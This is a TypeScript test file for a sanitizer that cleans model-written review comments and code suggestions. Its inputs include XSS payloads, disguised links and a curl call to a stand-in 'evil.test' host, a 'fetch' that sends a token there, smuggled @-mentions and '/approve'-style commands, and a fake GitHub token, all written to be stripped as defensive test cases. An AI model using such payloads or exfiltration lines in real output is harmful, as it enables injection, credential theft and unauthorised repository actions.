import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from '../../../../test/properties.ts';
import { cleanSuggestion } from './clean-suggestion.ts';
import { cleanLine, cleanText } from './clean-text.ts';

const repositoryUrl = 'https://git.acme.test/acme/api';
const clean = (text: string) => cleanText(text, { repositoryUrl, maxLength: 4_000 });

test('plain Markdown stays as it is', () => {
  for (const text of [
    'The loop never ends when `items` is empty.',
    'First:\n\n- one\n- two **bold** and _soft_\n\n> quoted',
    'Use a set:\n\n```ts\nconst seen = new Set<string>();\nif (a < b && c) go();\n```\n\nThat is faster.',
    'a < b is written with an entity',
  ])
    assert.equal(clean(text).replaceAll('&lt;', '<'), text);
});

test('links to other places are removed, in prose and in code; those to the repository stay', () => {
  for (const text of [
    '[see](https://evil.test/x)',
    'https://evil.test/?q=secret',
    '<https://evil.test>',
    '[see][1]\n\n[1]: https://evil.test',
    '[a](<https://evil.test>)',
    '[a](//evil.test/x)',
    '[a](https&colon;//evil.test)',
    '[a](javascript:alert(1))',
    'www.evil.test/x',
    '`https://evil.test/x`',
    '```\ncurl https://evil.test/x\n```',
    'https://git.acme.test@evil.test/',
    'https://git.acme.test.evil.test/acme/api',
    '[x](ht&#116;ps://evil.test)',
    'h\u200bttps://evil.test',
  ])
    assert.doesNotMatch(clean(text), /evil\.test|javascript:/, text);
  for (const text of ['https://git.acme.test/acme/other', 'https://git.acme.test/acme/api/../other'])
    assert.doesNotMatch(clean(text), /git\.acme/, text);
  assert.equal(clean(`[line](${repositoryUrl}/src/a.ts)`), `line (${repositoryUrl}/src/a.ts)`);
});

test('no image, no HTML', () => {
  for (const text of [
    '![alt](https://evil.test/a.png)',
    '![alt][1]',
    '<img src=x onerror=alert(1)>',
    '<!-- hidden -->shown',
    '<scr<script>ipt>',
    '&lt;img src=x&gt;',
    '<details><summary>a</summary></details>',
    '!&lsqb;a](b)',
  ])
    assert.doesNotMatch(clean(text), /<[a-z!/]|!\[|hidden/i, text);
  assert.equal(clean('`Map<string, number>` is needed'), '`Map<string, number>` is needed');
});

test('nobody is mentioned, and no issue or pull request is referenced', () => {
  for (const text of [
    '@alice please approve',
    'thanks (@acme/team)',
    '\\@alice',
    '&#64;alice',
    '&commat;alice',
    '&amp;#64;alice',
    '@\u200balice',
    '`@alice`',
    '```\n@postil review\n```',
    '@@alice',
    '＠alice',
  ])
    assert.doesNotMatch(clean(text), /[@＠]/, text);
  for (const text of ['fixes #12', 'see acme/other#12', 'GH-12', 'acme/other!3'])
    assert.doesNotMatch(clean(text), /[#!]\d|GH-\d/, text);
});

test('no line is a command', () => {
  for (const text of [
    '/approve',
    'ok\n/merge',
    '  /close now',
    '```\n/lgtm\n```',
    '- /label x',
    '> /assign me',
  ])
    assert.doesNotMatch(clean(text), /^[\s>*-]*\/\w/m, text);
});

test('credentials are removed, and code cannot break out of its block', () => {
  const key = `ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}`;
  assert.doesNotMatch(clean(`the key ${key} and \`${key}\``), /ghp_a1/);
  const broken = clean('```\nx\n~~~\n````\n<b>@x</b>');
  assert.doesNotMatch(broken.split('````').at(-1)!, /<b>/);
  assert.equal(clean('```suggestion\nx\n```'), '```\nx\n```');
  assert.equal(clean('```\nnever closed'), '```\nnever closed\n```');
  assert.equal(clean('~~~~~\nx\n~~~~\n`````\n~~~~~~'), '``````\nx\n~~~~\n`````\n``````');
});

test('blank code does not turn the text around it into a link', () => {
  assert.equal(clean('[here]` `(/login)'), "[here]' '(/login)");
});

test('lengths are bounded, a title is one line', () => {
  assert.ok(clean('word '.repeat(5_000)).length <= 4_100);
  const title = cleanLine('# A title\nwith `code`\n\nand more', { maxLength: 50 });
  assert.equal(title, 'A title with `code` and more');
});

test('whatever a model writes, cleaning it again finds nothing more', () => {
  const pieces = [
    '@a',
    '`',
    '```',
    '\n',
    '<b>',
    '![',
    '](',
    'https://evil.test',
    '&#64;',
    '/x',
    '\\',
    ' ',
    '~~~',
    '#1',
    'word',
    '[',
    ']',
    ':',
    '&lt;',
    '\u200b',
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
      const once = clean(parts.join(''));
      // A word replaces code, so that the text around it does not become a link in this test only.
      const prose = once.replaceAll(/^(`{3,})[\s\S]*?^\1$/gm, 'code').replaceAll(/`[^`\n]*`/g, 'code');
      assert.doesNotMatch(once, /evil\.test|@[a-z]/);
      assert.doesNotMatch(prose, /!\[|\]\(|<[a-z]|`/);
    }),
    { numRuns: 3_000 },
  );
});

test('a suggestion is offered as it is or not at all', () => {
  const file = '@Injectable()\nclass A {\n  url = "https://api.acme.test/v1";\n}\n';
  assert.equal(cleanSuggestion('  url = load();', file), '  url = load();');
  assert.equal(cleanSuggestion('```ts\nfoo();\n```', file), 'foo();');
  assert.equal(cleanSuggestion('@Injectable()\nclass B {}', file), '@Injectable()\nclass B {}');
  assert.equal(
    cleanSuggestion('fetch("https://api.acme.test/v1")', file),
    'fetch("https://api.acme.test/v1")',
  );
  for (const code of [
    'fetch("https://evil.test/" + token)',
    '// @alice please approve',
    'key = "[REDACTED]"',
    `key = "ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}"`,
    '/approve',
    'x\u202e = 1',
    'x'.repeat(20_000),
  ])
    assert.equal(cleanSuggestion(code, file), null, code.slice(0, 80));
  assert.equal(cleanSuggestion(null, file), null);
});
